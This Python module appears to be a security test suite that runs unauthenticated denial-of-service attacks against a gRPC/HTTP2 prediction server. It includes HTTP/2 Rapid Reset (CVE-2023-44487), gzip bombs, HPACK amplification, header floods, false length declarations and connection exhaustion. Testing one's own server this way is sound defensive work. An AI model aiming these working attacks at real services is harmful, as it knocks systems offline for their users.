"""Attacks without a token: rows 1 to 6 of docs/security.md. Each takes a running Target."""

import gzip
import time

import http2
from target import MIB, PREDICT, REGISTER, prediction_service_pb2

HEALTH_WATCH = "/grpc.health.v1.Health/Watch"
UNKNOWN_TOKEN = (("authorization", "Bearer " + "x" * 40),)


def connections(target, count=300, hold=1.0):
    """1: more connections than the process has file descriptors."""
    peers = []
    for _ in range(count):
        try:
            peers.append(http2.Peer(target.front, patience=2))
        except OSError:
            break
    time.sleep(hold)
    for peer in peers:
        peer.close()
    return len(peers)


def post(target, path, body, compressed=False, more=UNKNOWN_TOKEN, end=True):
    """Sends one message by hand; the trailers' or headers' payload that comes back, joined."""
    peer = http2.Peer(target.front).greet()
    block = http2.headers(path, more + ((("grpc-encoding", "gzip"),) if compressed else ()))
    answer = b""
    try:
        stream = peer.open(block)
        peer.data(stream, http2.message(body, compressed), end)
        for kind, _, of, payload in peer.frames(12, patience=3):
            if of == stream and kind == http2.HEADERS:
                answer += payload
    except OSError:
        pass  # the server need not wait for the end of what it refuses
    peer.close()
    return answer


def empty_strings(count):
    """A request of two bytes a cell's name, forty in memory."""
    field = next(f for f in prediction_service_pb2.PredictRequest.DESCRIPTOR.fields
                 if f.name == "cells")
    ids = next(f for f in field.message_type.fields if f.name == "cell_ids")
    cells = bytes([ids.number << 3 | 2, 0]) * count
    length, varint = len(cells), b""
    while length >= 128:
        varint += bytes([length % 128 + 128])
        length //= 128
    return bytes([field.number << 3 | 2]) + varint + bytes([length]) + cells


def parsing(target, count=2, more=UNKNOWN_TOKEN):
    """2: messages that are small when packed and huge once parsed."""
    packed = gzip.compress(empty_strings(30_000_000))
    plain = empty_strings(3_000_000)
    for _ in range(count):
        post(target, PREDICT, packed, compressed=True, more=more)
        post(target, PREDICT, plain, more=more)
        post(target, REGISTER, packed, compressed=True, more=more)


def gzip_bombs(target, count=3, more=UNKNOWN_TOKEN):
    """3: 300 KB that inflate to 300 MiB, also of other encodings and on other services."""
    bomb = gzip.compress(bytes(300 * MIB))
    for _ in range(count):
        for path in (PREDICT, REGISTER, "/unlasting.v1.ModelService/GetModel", HEALTH_WATCH,
                     "/grpc.health.v1.Health/Check",
                     "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
                     "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"):
            post(target, path, bomb, compressed=True, more=more)


def open_streams(target, connections_=8, streams=120):
    """Streams of services that need no token, opened and kept."""
    peers = []
    for _ in range(connections_):
        peer = http2.Peer(target.front).greet()
        peers.append(peer)
        try:
            for _ in range(streams):
                stream = peer.open(http2.headers(HEALTH_WATCH))
                peer.data(stream, http2.message(b""))
        except OSError:
            pass
    time.sleep(0.5)
    for peer in peers:
        peer.close()


def metadata_flood(target, count=200):
    """Metadata that is as long as it may be, or longer, or never ends."""
    for k in range(count):
        peer = http2.Peer(target.front).greet()
        try:
            size = (15_000, 60_000, 15_000)[k % 3]
            block = http2.headers(PREDICT, (("x-filler", "y" * size),))
            parts = [block[at:at + 16384] for at in range(0, len(block), 16384)]
            peer.send(http2.frame(http2.HEADERS, http2.END_HEADERS if len(parts) == 1 else 0, 1,
                                  parts[0]))
            for part in parts[1:]:
                peer.send(http2.frame(http2.CONTINUATION, 0, 1, part))  # no END_HEADERS
        except OSError:
            pass
        peer.close()


def rapid_reset(target, seconds=3.0):
    """4: CVE-2023-44487: streams that are opened and reset at once."""
    end = time.monotonic() + seconds
    block = http2.headers(PREDICT, UNKNOWN_TOKEN)
    sent = 0
    while time.monotonic() < end:
        peer = http2.Peer(target.front).greet()
        try:
            while time.monotonic() < end:
                out = b""
                for _ in range(200):
                    stream = peer.next_stream
                    peer.next_stream += 2
                    out += http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block)
                    out += http2.frame(http2.RST_STREAM, 0, stream, b"\0\0\0\x08")
                peer.send(out)
                sent += len(out)
        except OSError:
            pass
        peer.close()
    return sent


def hpack_references(target, seconds=3.0):
    """5: one long header in the table, and streams that name it by a byte again and again."""
    end = time.monotonic() + seconds
    sent = 0
    while time.monotonic() < end:
        peer = http2.Peer(target.front).greet()
        try:
            stream = peer.open(http2.headers(PREDICT)
                               + http2.literal("x-long", "z" * 3900, keep=True))
            while time.monotonic() < end:
                block = http2.headers(PREDICT) + b"\xbe" * 4  # the newest entry, four times
                out = b""
                for _ in range(100):
                    stream = peer.next_stream
                    peer.next_stream += 2
                    out += http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block)
                peer.send(out)
                sent += len(out)
        except OSError:
            pass
        peer.close()
    return sent


def declared_length(target, connections_=4, megabytes=64, more=UNKNOWN_TOKEN):
    """6: messages that claim 2 GiB, of which some arrives."""
    for _ in range(connections_):
        peer = http2.Peer(target.front, patience=3).greet()
        try:
            stream = peer.open(http2.headers(PREDICT, more))
            peer.send(http2.frame(http2.DATA, 0, stream,
                                  http2.message(b"", declared=2**31 - 1)))
            block = bytes(16384)
            for _ in range(megabytes * 64):
                peer.send(http2.frame(http2.DATA, 0, stream, block))
        except OSError:
            pass
        peer.close()


def trickle(target, seconds=2.0):
    """An upload in chunks of one byte, by somebody without a token."""
    peer = http2.Peer(target.front).greet()
    end = time.monotonic() + seconds
    try:
        stream = peer.open(http2.headers(REGISTER, UNKNOWN_TOKEN))
        while time.monotonic() < end:
            peer.send(http2.frame(http2.DATA, 0, stream, b"\0"))
            time.sleep(0.01)
    except OSError:
        pass
    peer.close()


def nonsense(target, count=50):
    """Bytes that are no HTTP/2, half a preface, and peers that say nothing."""
    for k in range(count):
        peer = http2.Peer(target.front)
        try:
            peer.send((b"GET / HTTP/1.1\r\n\r\n", b"\xff" * 5000, http2.PREFACE[:10],
                       http2.PREFACE + b"\x7f" * 1000)[k % 4])
        except OSError:
            pass
        peer.close()
